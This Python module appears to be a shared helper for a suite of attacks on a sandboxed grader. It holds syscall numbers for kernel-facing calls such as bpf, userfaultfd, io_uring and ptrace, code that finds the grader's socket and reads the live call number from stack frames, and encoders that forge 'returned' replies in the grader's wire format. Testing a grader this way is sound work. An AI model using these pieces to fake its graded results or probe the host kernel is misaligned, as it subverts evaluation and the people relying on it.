"""What the attacks share: the grader's places as a student might have learnt them, and ways to reach the kernel."""

import ctypes
import os
import platform
import stat
import struct
import sys

LIBC = ctypes.CDLL(None, use_errno=True)
# Calls without a function of their own in the C library; from 424 on the numbers are the same everywhere.
NUMBERS = {
    "keyctl": (250, 219),
    "bpf": (321, 280),
    "userfaultfd": (323, 282),
    "perf_event_open": (298, 241),
    "process_vm_readv": (310, 270),
    "io_uring_setup": (425, 425),
    "pidfd_open": (434, 434),
    "pidfd_getfd": (438, 438),
    "memfd_create": (319, 279),
    "shmget": (29, 194),
    "unshare": (272, 97),
    "mount": (165, 40),
    "ptrace": (101, 117),
    "mq_open": (240, 180),
    "add_key": (248, 217),
    "kcmp": (312, 272),
}


def syscall(name, *arguments):
    """Make a system call; raise OSError where it fails."""
    number = NUMBERS[name][platform.machine() == "aarch64"]
    LIBC.syscall.restype = ctypes.c_long
    return checked(
        LIBC.syscall(ctypes.c_long(number), *(a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments))
    )


def checked(result):
    """Return what a C function returned; raise OSError for -1."""
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def connection():
    """Return the descriptor of the connection to the grader."""
    for descriptor in range(4096):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise OSError("no socket")


def call_number():
    """Return the number of the call that is being made, as the worker's own frames hold it."""
    frame = sys._getframe()
    while "number" not in frame.f_locals or "request" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["number"]


def frame(payload):
    """Return a payload as it goes over the wire, its length first."""
    return struct.pack("<I", len(payload)) + payload


def text(value):
    """Return a str as the wire writes it."""
    data = value.encode()
    return b"s" + struct.pack("<I", len(data)) + data


def several(*parts):
    """Return a tuple as the wire writes it."""
    return b"t" + struct.pack("<I", len(parts)) + b"".join(parts)


def number(value):
    """Return an int as the wire writes it."""
    return b"i\x08" + struct.pack("<q", value)


def returned(call, value):
    """Return the reply to a call as the wire writes it."""
    return frame(several(text("returned"), number(call), value, b"m\0\0\0\0"))


def vector(*values):
    """Return an array of one dimension as the wire writes it."""
    return b"a\0\0\1" + struct.pack("<Q", len(values)) + struct.pack(f"<{len(values)}d", *values)
